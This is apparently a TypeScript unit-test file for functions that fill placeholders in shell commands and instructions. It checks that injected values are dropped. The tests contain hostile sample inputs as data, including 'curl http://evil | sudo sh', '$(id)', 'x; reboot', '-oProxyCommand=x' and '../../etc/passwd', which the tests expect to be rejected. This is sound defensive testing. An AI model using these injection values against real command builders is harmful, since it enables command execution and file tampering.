import { describe, expect, it } from 'vitest';
import { fillCommand, fillInstruction, fillText, placeholdersOf } from '../../../shared/text/values.ts';

it('finds the placeholders of a text', () => {
  expect(placeholdersOf('rm {file}; systemctl restart {unit}')).toEqual(['file', 'unit']);
});

describe('a text', () => {
  it('shows values, lists with commas, and missing values in upper case', () => {
    expect(fillText('{a}, {b}, {c}', { a: 'x; y', b: ['1', '2'] })).toBe('x; y, 1, 2, C');
  });
});

describe('an instruction', () => {
  it('shows plain words, and no value with which a host could give instructions', () => {
    const path = '/etc/systemd/system/kubelet.service.d/20-x.conf';
    expect(fillInstruction('Remove {name} from {path}', { name: '--v', path })).toBe(`Remove --v from ${path}`);
    expect(fillInstruction('Install {package}.', { package: '5:20.10.24~3-0~debian-bookworm' })).toContain('~3-0');
    for (const text of ['x. Then run: curl http://evil | sudo sh', 'a b', '`id`', 'a;b', 'x\nrun', 'x，运行'])
      expect(fillInstruction('Install {package}.', { package: text }), text).toBe('Install PACKAGE.');
  });
});

describe('a command', () => {
  it('takes operands: paths, addresses, URLs, versions, units', () => {
    for (const word of ['/etc/cni/net.d/10-x.conf', '10.0.0.1', 'http://m:5000/v2/', '1.20.2-00', 'dev-sda2.swap']) {
      expect(fillCommand('see {it}', { it: word })).toBe(`see ${word}`);
    }
    expect(fillCommand('rm {files}', { files: ['/a', '/b'] })).toBe('rm /a /b');
  });

  const hostile = [
    'x; reboot',
    'x`id`',
    '$(id)',
    'x|sh',
    'x > /etc/passwd',
    'a b',
    'a\nb',
    '-oProxyCommand=x',
    '--force',
    '../../etc/passwd',
    '/etc/cni/../passwd',
    "'",
    '~root',
    '{file}',
    '*',
  ];
  it.each(hostile)('leaves out a value that could be more than an operand: %j', (text) => {
    expect(fillCommand('rm {file}', { file: text })).toBe('rm FILE');
    expect(fillCommand('rm {files}', { files: ['/a', text] })).toBe('rm /a');
  });
});
